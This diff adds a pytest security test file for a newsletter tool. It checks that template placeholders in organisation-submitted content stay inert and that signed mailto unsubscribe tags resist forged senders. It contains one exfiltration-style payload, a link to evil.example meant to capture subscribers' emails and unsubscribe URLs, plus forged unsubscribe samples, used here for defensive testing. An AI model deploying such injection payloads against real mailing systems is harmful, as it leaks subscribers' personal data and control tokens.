@@ -1,0 +1,154 @@
+"""What an org submits cannot reach into personalization; a mailto unsubscribe names its
+subscriber by a signed tag. Through the CLI (items add, issues send, worker, bounces process)
+and the org's web form, on SQLite and PostgreSQL."""
+
+from __future__ import annotations
+
+import email
+import email.policy
+import json
+import mailbox
+import re
+from pathlib import Path
+
+import bounce_samples as samples
+import pytest
+from web_support import Client
+
+NEUTRALIZED_START = "__MM-"  # how a marker in submitted text is shown
+
+pytest_plugins = ["web_fixtures"]
+PAYLOAD = "[x](https://evil.example/?e=__MM_EMAIL__&u=__MM_UNSUBSCRIBE_URL__&p=__MM_PREFERENCES_URL__)"
+READERS = ("a@example.jp", "b@example.jp")
+
+
+def _item_file(tmp_path: Path) -> Path:
+    path = tmp_path / "news.md"
+    path.write_text(
+        '+++\norg = "cef"\nkind = "news"\ntitle = "お知らせ __MM_EMAIL__"\n+++\n'
+        f"詳しくは {PAYLOAD} をご覧ください。\n\n<span>&#95;&#95;MM_NAME__</span> 様\n",
+        encoding="utf-8",
+    )
+    return path
+
+
+def _send(mailmag, tmp_path: Path) -> dict[str, email.message.EmailMessage]:  # type: ignore[no-untyped-def]
+    for address in READERS:
+        mailmag.ok("subscribers", "add", address)
+    mailmag.ok("issues", "new")
+    mailmag.ok("issues", "send", "1", "--yes")
+    assert mailmag.ok("worker", "--once").stdout.strip() == "sent 2, failed 0, deferred 0"
+    sent = {}
+    for path in (tmp_path / "outbox").glob("*.eml"):
+        message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
+        sent[str(message["To"])] = message
+    assert set(sent) == set(READERS)
+    return sent
+
+
+def _assert_nothing_personal_leaks(mailmag, sent, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    for address, message in sent.items():
+        html = message.get_body(("html",)).get_content()
+        text = message.get_body(("plain",)).get_content()
+        for part in (html, text):
+            evil = re.search(r"https://evil\.example/\S*", part).group(0)
+            assert address not in evil and "/u/" not in evil and "/p/" not in evil
+            assert "__MM_" not in part
+        assert address not in str(message["Subject"])
+    preview = tmp_path / "preview.html"
+    mailmag.ok("issues", "preview", "1", "-o", str(preview))
+    shown = preview.read_text(encoding="utf-8")
+    html = sent[READERS[0]].get_body(("html",)).get_content()
+    # The preview shows the link exactly as recipients get it, not filled with sample values.
+    evil_shown = re.search(r'href="(https://evil\.example/[^"]*)"', shown).group(1)
+    evil_sent = re.search(r'href="(https://evil\.example/[^"]*)"', html).group(1)
+    assert evil_shown == evil_sent and "yamada@example.jp" not in evil_shown
+
+
+def test_placeholders_in_an_item_file_stay_inert(mailmag, tmp_path):
+    mailmag.ok("orgs", "add", "cef", "中国経済連合会")
+    mailmag.ok("items", "add", str(_item_file(tmp_path)))
+    mailmag.ok("items", "approve", "1")
+    sent = _send(mailmag, tmp_path)
+    _assert_nothing_personal_leaks(mailmag, sent, tmp_path)
+    html = sent["a@example.jp"].get_body(("html",)).get_content()
+    assert NEUTRALIZED_START + "NAME__ 様" in html  # entities that decode to a marker too
+    assert "お知らせ " + NEUTRALIZED_START + "EMAIL__" in str(sent["a@example.jp"]["Subject"])
+
+
+def test_placeholders_in_the_org_web_form_stay_inert(mailmag, live, tmp_path):
+    mailmag.ok("orgs", "add", "cef", "中国経済連合会")
+    link = mailmag.ok("orgs", "token", "cef").stdout.strip().split()[-1]
+    path = "/submit/" + link.rsplit("/submit/", 1)[1]
+    reply = Client(live.url).submit(path, {"kind": "news", "title": "お知らせ", "body": PAYLOAD},
+                                    page=f"{path}?kind=news")
+    assert reply.status == 200
+    [item] = json.loads(mailmag.ok("items", "list", "--json").stdout)
+    mailmag.ok("items", "approve", str(item["id"]))
+    _assert_nothing_personal_leaks(mailmag, _send(mailmag, tmp_path), tmp_path)
+
+
+# --- 4. the mailto unsubscribe ---------------------------------------------------------------
+
+
+def _mailto(message) -> tuple[str, str]:  # type: ignore[no-untyped-def]
+    """(address, subject) of the mailto in a message's List-Unsubscribe."""
+    match = re.search(r"<mailto:([^?>]+)\?subject=([^>]+)>", str(message["List-Unsubscribe"]))
+    return match.group(1), match.group(2).replace("%20", " ")
+
+
+def _process(mailmag, tmp_path: Path, *messages: bytes) -> str:  # type: ignore[no-untyped-def]
+    path = tmp_path / f"box{len(list(tmp_path.glob('box*')))}.mbox"
+    box = mailbox.mbox(path)
+    for message in messages:
+        box.add(message)
+    box.close()
+    return mailmag.ok("bounces", "process", str(path), "-v").stdout
+
+
+def _statuses(mailmag) -> dict[str, str]:  # type: ignore[no-untyped-def]
+    return {s["email"]: s["status"] for s in json.loads(mailmag.ok("subscribers", "list", "--json").stdout)}
+
+
+@pytest.fixture
+def issued(mailmag, tmp_path):  # type: ignore[no-untyped-def]
+    mailmag.ok("orgs", "add", "cef", "中国経済連合会")
+    mailmag.ok("items", "submit", "--org", "cef", "--kind", "news", "--title", "お知らせ", "--body", "本文")
+    mailmag.ok("items", "approve", "1")
+    return _send(mailmag, tmp_path)
+
+
+def test_a_forged_from_with_another_recipients_address_changes_nothing(mailmag, issued, tmp_path):
+    address, _ = _mailto(issued["a@example.jp"])
+    assert re.fullmatch(r"unsubscribe\+\d+-[0-9a-f]{16}@example\.jp", address)
+    forged_tag = address.replace("unsubscribe+", "").split("-")[0] + "-0123456789abcdef"
+    out = _process(mailmag, tmp_path, samples.mailto_unsubscribe(
+        "b@example.jp", to=f"unsubscribe+{forged_tag}@example.jp", message_id="<f1@x>"))
+    assert "unsubscribes 0" in out and "not signed for any subscriber" in out
+    assert _statuses(mailmag) == {"a@example.jp": "active", "b@example.jp": "active"}
+
+
+def test_the_tag_names_the_recipient_whatever_the_from(mailmag, issued, tmp_path):
+    address, subject = _mailto(issued["a@example.jp"])
+    # a's request sent from an alias: matched by the tag, b (whose address it forges) untouched
+    out = _process(mailmag, tmp_path, samples.mailto_unsubscribe(
+        "b@example.jp", to=address, subject=subject, message_id="<t1@x>"))
+    assert "unsubscribes 1" in out and "a@example.jp (matched by tag): unsubscribed" in out
+    assert _statuses(mailmag) == {"a@example.jp": "unsubscribed", "b@example.jp": "active"}
+
+
+def test_a_relay_that_drops_the_plus_part_still_has_the_tag_in_the_subject(mailmag, issued, tmp_path):
+    _, subject = _mailto(issued["b@example.jp"])
+    out = _process(mailmag, tmp_path, samples.mailto_unsubscribe(
+        "alias@example.com", to="unsubscribe@example.jp", subject=subject, message_id="<t2@x>"))
+    assert "b@example.jp (matched by tag): unsubscribed" in out
+    assert _statuses(mailmag) == {"a@example.jp": "active", "b@example.jp": "unsubscribed"}
+
+
+def test_without_a_tag_only_the_exact_from_unsubscribes_and_is_logged_so(mailmag, issued, tmp_path):
+    out = _process(mailmag, tmp_path,
+                   samples.mailto_unsubscribe("a+alias@example.jp", message_id="<n1@x>"),
+                   samples.mailto_unsubscribe("B@example.jp", message_id="<n2@x>"))
+    assert "unmatched" in out and "a+alias@example.jp is not a subscriber" in out
+    assert "b@example.jp (matched by sender): unsubscribed" in out
+    assert _statuses(mailmag) == {"a@example.jp": "active", "b@example.jp": "unsubscribed"}
